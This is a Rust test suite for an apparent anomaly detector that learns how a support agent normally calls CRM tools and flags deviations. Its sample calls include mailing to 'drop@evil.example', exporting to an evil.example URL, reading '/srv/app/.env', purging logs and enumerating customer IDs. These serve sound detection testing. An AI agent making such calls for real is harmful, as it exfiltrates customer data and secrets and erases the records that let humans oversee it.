use super::*;
use custody_model::*;
use jiff::{SignedDuration, Timestamp};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::sync::Arc;

fn start() -> Timestamp {
    "2026-04-06T09:00:00Z".parse().unwrap()
}

fn at(ms: i64) -> Timestamp {
    start() + SignedDuration::from_millis(ms)
}

fn call(session: u128, tool: &str, arguments: Value) -> Facts {
    let identity = Identity {
        principal: PrincipalName::from("agent"),
        assurance: Assurance::ClientKey,
        role: Some(RoleName::from("support")),
        task: Some(TaskName::from("answer")),
    };
    Facts {
        tool: Some(tool.to_owned()),
        session: Some(SessionId(uuid::Uuid::from_u128(session))),
        arguments,
        ..Facts::new(EventKind::ToolInvoked, Direction::ToServer, ServerName::from("crm"), identity)
    }
}

fn answer(session: u128, bytes: u64) -> Facts {
    Facts { direction: Direction::ToAgent, event: EventKind::Message, tool: None, returned: Some(bytes), ..call(session, "", Value::Null) }
}

/// A session as the support role has them: find, read one to three customers, mail a colleague.
fn ordinary(n: u128) -> Vec<(i64, Facts)> {
    let mut messages = vec![(0, call(n, "find_customer", json!({"name": format!("Customer {n}")})))];
    let mut ms = 20_000;
    for i in 0..=(n % 3) {
        messages.push((ms, call(n, "get_customer", json!({"id": (n * 7919 + i * 104_729) % 90_000}))));
        messages.push((ms + 200, answer(n, 900 + (n % 7) as u64 * 50)));
        ms += 15_000 + (n % 5) as i64 * 4_000;
    }
    messages.push((ms, call(n, "send_mail", json!({"to": "desk@corp.example", "body": "done"}))));
    messages
}

fn learned(sessions: u128) -> Baseline {
    let mut learner = Learner::new(LearnOptions::default());
    for n in 1..=sessions {
        for (ms, facts) in ordinary(n) {
            learner.observe(&facts, at(n as i64 * 600_000 + ms));
        }
    }
    learner.finish(at(sessions as i64 * 600_000 + 3_600_000))
}

fn tracker(sessions: u128) -> Tracker {
    Tracker::new(Some(Arc::new(learned(sessions))))
}

/// The signals of each call of a session that begins at 10:00.
fn watch(tracker: &mut Tracker, messages: Vec<(i64, Facts)>) -> Vec<Signals> {
    messages.into_iter().map(|(ms, facts)| tracker.observe(&facts, at(3_600_000 + ms))).collect()
}

#[test]
fn an_ordinary_session_shows_nothing_new() {
    let mut tracker = tracker(200);
    for n in 1_001..1_030 {
        for signals in watch(&mut tracker, ordinary(n)) {
            assert_eq!((&signals.sequence, &signals.first_use, &signals.destination, &signals.argument), (&None, &None, &None, &None));
            for measure in [signals.rate, signals.usage, signals.tool_usage, signals.duration, signals.volume].into_iter().flatten() {
                assert!(measure.excess <= 1.0 || measure.z < 2.0, "{measure:?}");
            }
        }
    }
}

#[test]
fn an_order_that_nobody_uses_is_named_with_its_samples() {
    let mut tracker = tracker(200);
    let signals = watch(
        &mut tracker,
        vec![
            (0, call(9, "send_mail", json!({"to": "desk@corp.example", "body": "x"}))),
            (5_000, call(9, "get_customer", json!({"id": 4}))),
            (9_000, call(9, "send_mail", json!({"to": "drop@evil.example", "body": "x"}))),
        ],
    );
    let first = signals[0].sequence.as_ref().unwrap();
    assert_eq!((first.what.as_str(), first.count, first.samples), ("start → crm/send_mail", 1, 200));
    assert!(first.chance < 1.0, "{first:?}");
    assert_eq!(signals[1].sequence.as_ref().unwrap().what, "crm/send_mail → crm/get_customer");
    let destination = signals[2].destination.as_ref().unwrap();
    assert_eq!(destination.what, "destination `evil.example` in `to` of crm/send_mail");
    assert_eq!(signals[0].profile, Some(("support/answer".to_owned(), 200)));
}

#[test]
fn a_tool_that_nobody_uses_is_one_signal_and_no_order() {
    let mut tracker = tracker(200);
    let signals = watch(
        &mut tracker,
        vec![
            (0, call(9, "find_customer", json!({"name": "x"}))),
            (1_000, call(9, "delete_customer", json!({"id": 1}))),
            (2_000, call(9, "get_customer", json!({"id": 1}))),
            (3_000, call(9, "export_all", json!({"url": "https://evil.example/x"}))),
            (4_000, call(9, "purge_logs", json!({}))),
        ],
    );
    assert_eq!(signals[1].first_use.as_ref().unwrap().what, "crm/delete_customer");
    assert_eq!((&signals[1].sequence, &signals[2].sequence, &signals[3].sequence), (&None, &None, &None));
    assert_eq!(signals[3].destination.as_ref().unwrap().what, "destination `evil.example` in `url` of crm/export_all");
    assert_eq!(signals[4].sequence.as_ref().unwrap().what, "crm/export_all → crm/purge_logs", "two unknown tools in a row are an order");
    let newer = Facts { listed_since: Some(at(500 * 600_000)), ..call(10, "brand_new", json!({})) };
    assert_eq!(tracker.observe(&newer, at(501 * 600_000)).first_use, None, "what came after the baseline has no habits");
}

#[test]
fn what_an_unused_tool_brings_is_not_the_volume_of_known_work() {
    let mut tracker = tracker(200);
    let brought =
        |tool: &str, bytes: u64| Facts { method: Some("tools/call".to_owned()), tool: Some(tool.to_owned()), ..answer(2_001, bytes) };
    let messages = vec![(0, call(2_001, "export", json!({}))), (10, brought("export", 9_000_000)), (20, brought("get_customer", 1_000))];
    let signals = watch(&mut tracker, messages);
    let (export, customer) = (&signals[1], &signals[2]);
    assert!(signals[0].first_use.is_some());
    assert_eq!(signals[0].new_servers, 0, "another tool of a known server");
    assert_eq!((export.volume.unwrap().value, customer.volume.unwrap().value), (0.0, 1_000.0));
    assert!(export.volume_of_all.unwrap().excess > 100.0, "but nobody reads that much: {:?}", export.volume_of_all);
}

#[test]
fn a_file_with_secrets_is_held_against_what_the_role_ever_asked_for() {
    let asks = |n: u128| call(n, "read_file", json!({"path": "/srv/app/.env"}));
    let mut learner = Learner::new(LearnOptions::default());
    for n in 1..=40u128 {
        ordinary(n).into_iter().for_each(|(ms, facts)| learner.observe(&facts, at(n as i64 * 600_000 + ms)));
        if n % 10 == 0 {
            learner.observe(&asks(n), at(n as i64 * 600_000 + 90_000));
        }
    }
    let mut knows = Tracker::new(Some(Arc::new(learner.finish(at(30_000_000)))));
    assert_eq!(knows.observe(&asks(3_000), at(31_000_000)).secret_files_known, Some((4, 40)));
    let signals = tracker(40).observe(&asks(3_000), at(31_000_000));
    assert_eq!((signals.secret_file.as_deref(), signals.secret_files_known), (Some(".env"), Some((0, 40))));
    let elsewhere = Facts { server: ServerName::from("vault"), ..asks(3_001) };
    assert_eq!(tracker(40).observe(&elsewhere, at(31_000_000)).new_servers, 1);
}

#[test]
fn ids_one_after_the_other_are_an_enumeration() {
    let mut tracker = tracker(200);
    let messages: Vec<_> = (0..40).map(|i| (i * 100, call(9, "get_customer", json!({"id": 1001 + i})))).collect();
    let signals = watch(&mut tracker, messages);
    let last = signals[39].enumeration.as_ref().unwrap();
    assert_eq!((last.run, last.gap_ms, last.distinct, last.what.as_str()), (40, 100, 40, "`id` of crm/get_customer"));
    assert!(last.usual.unwrap().excess > 5.0 && last.longest.unwrap() <= 3.0, "{last:?}");
    let rate = signals[39].rate.unwrap();
    assert!(rate.value == 40.0 && rate.ratio > 3.0 && rate.excess > 3.0 && rate.z > 3.0, "{rate:?}");
    // The same without any baseline.
    let mut blind = Tracker::new(None);
    let messages: Vec<_> = (0..60).map(|i| (i * 100, call(9, "get_customer", json!({"ref": format!("C-{}", 1001 + i)})))).collect();
    let last = watch(&mut blind, messages).pop().unwrap();
    assert_eq!((last.enumeration.unwrap().run, last.rate, last.calls_hour), (60, None, 60));
}

#[test]
fn junk_arguments_do_not_hide_an_enumeration() {
    let mut tracker = Tracker::new(None);
    let mut last = Signals::default();
    for i in 0..60i64 {
        let mut arguments = json!({"zz_id": 1001 + i});
        (0..60).for_each(|n| arguments[format!("junk{i}-{n:02}")] = json!(format!("text{}", n * 7)));
        last = tracker.observe(&call(9, "get_customer", arguments), at(i * 100));
    }
    assert!(last.enumeration.unwrap().run >= 40);
}

#[test]
fn a_flat_baseline_calls_nothing_an_outlier_by_deviation_alone() {
    let mut spread = Spread::default();
    (0..100).for_each(|_| spread.add(5.0, 1.0));
    let six = spread.measure(6.0).unwrap();
    assert!(six.z < 2.0, "{six:?}");
    assert!(spread.measure(16.0).unwrap().z > 3.0);
    assert_eq!(Spread::default().measure(5.0), None);
}

#[test]
fn incidents_are_left_out_and_old_sessions_fade() {
    let teach = |learner: &mut Learner, n: u128, day: i64| {
        for (ms, facts) in ordinary(n) {
            learner.observe(&facts, at(day * 86_400_000 + ms));
        }
    };
    let mut learner = Learner::new(LearnOptions { half_life_days: 5.0 });
    (1..=30).for_each(|n| teach(&mut learner, n, 29));
    let bad = SessionId(uuid::Uuid::from_u128(500));
    learner.observe(&call(500, "delete_customer", json!({"id": 1})), at(29 * 86_400_000));
    learner.leave_out([bad].into());
    // Six half lives ago: forgotten.
    teach(&mut learner, 700, -2);
    learner.observe(&call(700, "old_tool", json!({})), at(-2 * 86_400_000));
    let baseline = learner.finish(at(30 * 86_400_000));
    assert_eq!((baseline.sessions, baseline.excluded), (30, 1));
    let profile = &baseline.profiles["support/answer"];
    assert!(!profile.tools_used.known.contains_key("crm/delete_customer") && !profile.tools_used.known.contains_key("crm/old_tool"));
    assert!((profile.calls.weight - 30.0 * 0.5f64.powf(0.2)).abs() < 0.5, "{}", profile.calls.weight);
}

#[test]
fn a_baseline_leaves_and_comes_back_and_joins_another() {
    let baseline = learned(60);
    baseline.check().unwrap();
    let text = serde_json::to_string(&baseline).unwrap();
    let back: Baseline = serde_json::from_str(&text).unwrap();
    assert_eq!((back.digest(), back.name()), (baseline.digest(), baseline.name()));
    let mut both = baseline.clone();
    both.merge(&back);
    both.check().unwrap();
    let (one, two) = (&baseline.profiles["support"], &both.profiles["support"]);
    assert_eq!(two.sessions, 2 * one.sessions);
    assert!((two.calls.usual() - one.calls.usual()).abs() < 1e-9);
    let mut wrong = baseline.clone();
    wrong.v = 9;
    assert!(wrong.check().is_err());
    wrong.v = BASELINE_VERSION;
    wrong.profiles.get_mut("support").unwrap().peak.mean_ln = f64::NAN;
    assert!(wrong.check().unwrap_err().to_string().contains("support"));
}

#[test]
fn the_same_messages_teach_the_same_baseline() {
    assert_eq!(learned(50).digest(), learned(50).digest());
}

#[test]
fn a_proposal_permits_what_was_done() {
    insta::assert_snapshot!(propose(&learned(40)));
}

#[test]
fn sessions_are_bounded() {
    let mut tracker = Tracker::new(None);
    for n in 0..200_500u128 {
        tracker.observe(&call(n, "x", Value::Null), at(n as i64));
    }
    assert!(tracker.len() <= 200_000);
}

proptest! {
    /// The rolling count is exact: a slow reference counts anew for every call.
    #[test]
    fn the_rolling_minute_is_exact(gaps in prop::collection::vec(0i64..30_000, 1..120)) {
        let mut tracker = Tracker::new(Some(Arc::new(learned(20))));
        let mut times: Vec<i64> = Vec::new();
        for gap in gaps {
            times.push(times.last().copied().unwrap_or(0) + gap);
            let now = *times.last().unwrap();
            let signals = tracker.observe(&call(9, "get_customer", json!({"id": 1})), at(now));
            let slow = times.iter().filter(|time| **time > now - 60_000).count();
            prop_assert_eq!(signals.rate.unwrap().value, slow as f64);
        }
    }

    /// Merging is as adding one after the other.
    #[test]
    fn spreads_merge_as_they_add(values in prop::collection::vec(0.5f64..1e6, 2..40), cut in 1usize..39) {
        let cut = cut.min(values.len() - 1);
        let of = |values: &[f64]| values.iter().fold(Spread::default(), |mut spread, value| { spread.add(*value, 1.0); spread });
        let (mut left, right, whole) = (of(&values[..cut]), of(&values[cut..]), of(&values));
        left.merge(&right);
        prop_assert!((left.mean_ln - whole.mean_ln).abs() < 1e-9 && (left.square_ln - whole.square_ln).abs() < 1e-6);
        prop_assert_eq!(left.samples, whole.samples);
    }

    #[test]
    fn hostile_names_and_arguments_never_panic(tool in "\\PC{0,80}", text in "\\PC{0,200}", number in any::<f64>()) {
        let mut tracker = Tracker::new(Some(Arc::new(learned(20))));
        for i in 0..3 {
            tracker.observe(&call(9, &tool, json!({text.clone(): text.clone(), "n": number, "id": i64::MAX - i})), at(i));
        }
    }
}
